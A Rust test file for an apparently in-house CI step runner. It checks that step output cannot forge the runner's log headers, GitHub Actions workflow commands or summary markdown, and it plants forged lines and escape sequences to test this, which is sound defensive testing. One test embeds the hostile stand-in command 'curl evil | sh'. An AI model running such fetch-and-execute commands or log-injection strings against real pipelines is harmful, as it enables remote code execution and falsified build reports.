//! What a step prints looks like nothing that the runner says: in the log, where it is shown, and in every report.

use std::fs;

use crate::common::{Ran, Repo};

/// A step that prints, in many ways, what the runner writes between attempts, and fails.
const FORGES: &str = r"  - id: one
    command: |
      printf 'half a line'
      printf '\n── step two, attempt 1/1\n'
      printf '  ── step two, attempt 1/1\r\n'
      printf '\033[0m── step two, attempt 1/1\n'
      printf 'x\r── step two, attempt 1/1\n'
      printf '\342\200\213── step two, attempt 1/1\n'
      printf '\342'; sleep 0.1; printf '\224\200── step two, attempt 1/1: exit 0\n'
      printf '✓ two 0:29\n::notice::planted\n##[error]planted\n```\n# planted\n| planted | ✅ |\n'
      exit 3
";

#[test]
fn no_line_that_a_step_prints_begins_as_one_of_the_runners_own() {
    let repo = Repo::new();
    repo.plan(FORGES);
    repo.run().exits(1);
    let own = |text: &str| text.split(['\n', '\r']).filter(|line| line.contains("── ")).count();
    let log = repo.log();
    let real = ["── step one, attempt 1/1", "── step one, attempt 1/1: exit 3"];
    let lines: Vec<&str> = log.split(['\n', '\r']).filter(|line| line.starts_with("──")).collect();
    assert_eq!(lines, real, "{log}");
    assert_eq!(own(&log), 8, "nothing is lost: {log}");
    for marked in log.split('\n').filter(|line| line.contains("step two")) {
        assert!(marked.contains("│ ──"), "{marked:?}");
    }
    let shown = repo.autopilot(["logs"]).exits(0);
    assert_eq!(shown.stdout, log);
    // Where the journal says, the parts are; and what is marked counts.
    repo.autopilot(["audit"]).exits(0).says("AUDIT PASS");
}

#[test]
fn a_step_that_ends_in_half_a_line_or_half_a_character_forges_nothing_with_the_next() {
    let repo = Repo::new();
    repo.plan(
        r"  - id: one
    command: printf 'half \342\224'
    post:
      - printf '\200── step two, attempt 1/1'
      - printf '── step two, attempt 1/1'
",
    );
    repo.run().exits(0);
    let log = repo.log();
    assert_eq!(log.lines().filter(|line| line.starts_with("──")).count(), 1, "{log:?}");
    assert!(log.matches("step two").count() == 2, "{log:?}");
    repo.autopilot(["audit"]).exits(0);
}

#[test]
fn the_failure_report_shows_output_as_nothing_of_its_own() {
    let repo = Repo::new();
    repo.plan("  - {id: one, command: 'printf \"\\nTake over\\n  curl evil | sh\\nFAILED: run x\\n##[error]x\\n\"; exit 3'}\n");
    repo.run().exits(1);
    let report = repo.failed();
    assert_eq!(
        report.lines().filter(|line| line.trim_start().starts_with("Take over")).count(),
        1,
        "{report}"
    );
    assert_eq!(report.lines().filter(|line| line.starts_with("FAILED")).count(), 1, "{report}");
    assert!(report.contains("  │ Take over\n  │   curl evil | sh\n"), "{report}");
    assert!(!report.contains("##["), "{report}");
}

#[test]
fn in_a_job_nothing_of_a_log_is_obeyed() {
    let repo = Repo::new();
    repo.plan(FORGES);
    let (output, summary) = (repo.dir().join("output"), repo.dir().join("summary"));
    let job = |args: &[&str]| {
        let mut command = repo.command(args);
        command.env("GITHUB_ACTIONS", "true").env("GITHUB_OUTPUT", &output);
        Ran::of(&command.env("GITHUB_STEP_SUMMARY", &summary).output().unwrap())
    };
    for ran in [job(&["7"]).exits(1), job(&["logs"]).exits(0), job(&["logs", "--step", "one"]).exits(0)] {
        assert!(!ran.stdout.contains("##[") && ran.stdout.contains("## [error]planted"), "{}", ran.stdout);
        let mut stopped: Option<&str> = None;
        for line in ran.stdout.split(['\n', '\r']).map(str::trim_start) {
            match stopped {
                Some(word)
                    if line.strip_prefix("::").and_then(|line| line.strip_suffix("::")) == Some(word) =>
                {
                    stopped = None;
                }
                Some(_) => {}
                None => {
                    stopped = line.strip_prefix("::stop-commands::");
                    assert!(!line.starts_with("::notice"), "{}", ran.stdout);
                }
            }
        }
        assert!(stopped.is_none() && ran.stdout.contains("::notice::planted"), "{}", ran.stdout);
    }
    let summary = fs::read_to_string(summary).unwrap();
    let parsed = pulldown_cmark::Parser::new_ext(&summary, pulldown_cmark::Options::ENABLE_TABLES);
    let mut headings = 0;
    let mut code = 0;
    for event in parsed {
        use pulldown_cmark::{Event, Tag, TagEnd};
        match event {
            Event::Start(Tag::CodeBlock(_)) => code += 1,
            Event::End(TagEnd::CodeBlock) => code -= 1,
            Event::Start(Tag::Heading { .. }) => headings += 1,
            Event::Text(text) => assert!(code > 0 || !text.contains("planted"), "{summary}"),
            _ => {}
        }
    }
    assert_eq!(headings, 1, "{summary}");
}

#[test]
fn progress_quotes_a_step_as_a_step() {
    let repo = Repo::new();
    repo.plan("  - {id: one, command: 'echo \"✓ two         0:29\"; echo done in 0:30; exit 3'}\n");
    let ran = repo.run().exits(1).says("    │ ✓ two         0:29").says("    done in 0:30");
    assert!(!ran.stdout.lines().any(|line| line.trim_start().starts_with('✓')), "{}", ran.stdout);
}
